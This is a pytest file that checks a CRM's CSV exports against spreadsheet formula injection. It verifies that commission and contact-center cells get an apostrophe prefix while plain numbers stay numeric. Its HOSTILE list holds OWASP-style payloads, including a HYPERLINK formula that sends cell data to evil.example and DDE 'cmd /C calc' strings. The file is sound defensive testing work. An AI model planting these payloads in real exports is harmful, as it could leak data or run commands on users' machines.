"""CSV exports never hand a spreadsheet a formula: one rule (crm_core.csvcells) for every export.

The analytics CSV is checked over HTTP in ``tests/console/test_console_csv_exports.py``,
the import's rejected-rows report in ``tests/app/test_import_report_csv.py``.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from crm_core.commission.csv_export import lines_csv, statements_csv
from crm_core.commission.schemas import LineView, StatementView
from crm_core.csvcells import BOM, csv_cell, csv_text
from crm_core.stats.csv_export import rows_csv, series_csv
from crm_core.stats.schemas import IntervalPoint, IntervalSeries

#: OWASP's examples and their neighbours: each starts with a character a spreadsheet evaluates.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-SUM(A1:A9)",
    "-",
)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_a_spreadsheet_would_run_is_shown_as_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-12.50"), "-12.50"),  # an amount stays a number the spreadsheet can sum
        (-3, "-3"),
        (-0.25, "-0.25"),
        ("-12.50", "-12.50"),  # text that is a plain number: read as that number, nothing to run
        ("+86", "+86"),
        ("+86 138 0013 8000", "'+86 138 0013 8000"),  # not a plain number: neutralised
        ("Zhang Wei", "Zhang Wei"),
        ("a=b", "a=b"),
        (None, ""),
        (True, "1"),
        (date(2026, 12, 5), "2026-12-05"),
        (datetime(2026, 12, 5, 8, 30, tzinfo=UTC), "2026-12-05T08:30:00+00:00"),
    ],
)
def test_numbers_and_plain_text_are_written_as_they_are(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_csv_text_quotes_and_neutralises_every_cell_header_included() -> None:
    text = csv_text(["=name", "amount"], [['=1+1,"x"', Decimal("-1.00")]], bom=True)
    assert text.startswith(BOM) and text.endswith("\r\n")
    assert _cells(text) == [["'=name", "amount"], ['\'=1+1,"x"', "-1.00"]]


def _statement(name: str, number: str, adjustment: Decimal) -> StatementView:
    line = LineView(
        id=7, kind="adjustment", for_period="2026-11", event=number, event_on=date(2026, 11, 30),
        contract_id=None, contract_number=number, payment_id=None, rule_id=None, base=Decimal("0.00"),
        share_percent=Decimal("100"), credited=Decimal("0.00"), commission=adjustment, rate="-",
    )  # fmt: skip
    return StatementView(
        id=3, period="2026-11", agent_login="alice", agent_name=name, status="open", lines=1,
        commission=Decimal("100.00"), adjustments=adjustment, total=Decimal("100.00") + adjustment,
        calculated_at=datetime(2026, 12, 1, tzinfo=UTC), approved_at=None, approved_by=None, items=[line],
    )  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_commission_statements_and_lines(text: str) -> None:
    statement = _statement(text, text, Decimal("-12.50"))
    [header, row] = _cells(statements_csv([statement]))
    values = dict(zip(header, row, strict=True))
    assert values["agent_name"] == "'" + text
    assert (values["adjustments"], values["total"]) == ("-12.50", "87.50")  # negative amounts stay numbers
    [header, row] = _cells(lines_csv([statement]))
    values = dict(zip(header, row, strict=True))
    assert (values["event"], values["contract_number"]) == ("'" + text, "'" + text)
    assert (values["commission"], values["rate"]) == ("-12.50", "'-")


@pytest.mark.parametrize("text", HOSTILE)
def test_contact_center_reports(text: str) -> None:
    [header, row] = _cells(rows_csv(("group", "key", "aht"), [{"group": "queue", "key": text, "aht": -1.5}]))
    assert dict(zip(header, row, strict=True)) == {"group": "queue", "key": "'" + text, "aht": "-1.5"}
    start = datetime(2026, 12, 5, 1, tzinfo=UTC)
    series = IntervalSeries(
        day=date(2026, 12, 5),
        tz="UTC",
        queues={text: [IntervalPoint(start=start, offered=3, answered=2, abandoned=1, service_level=0.5)]},
    )
    [_, row] = _cells(series_csv(series))
    assert row == ["'" + text, start.isoformat(), "3", "2", "1", "0.5"]
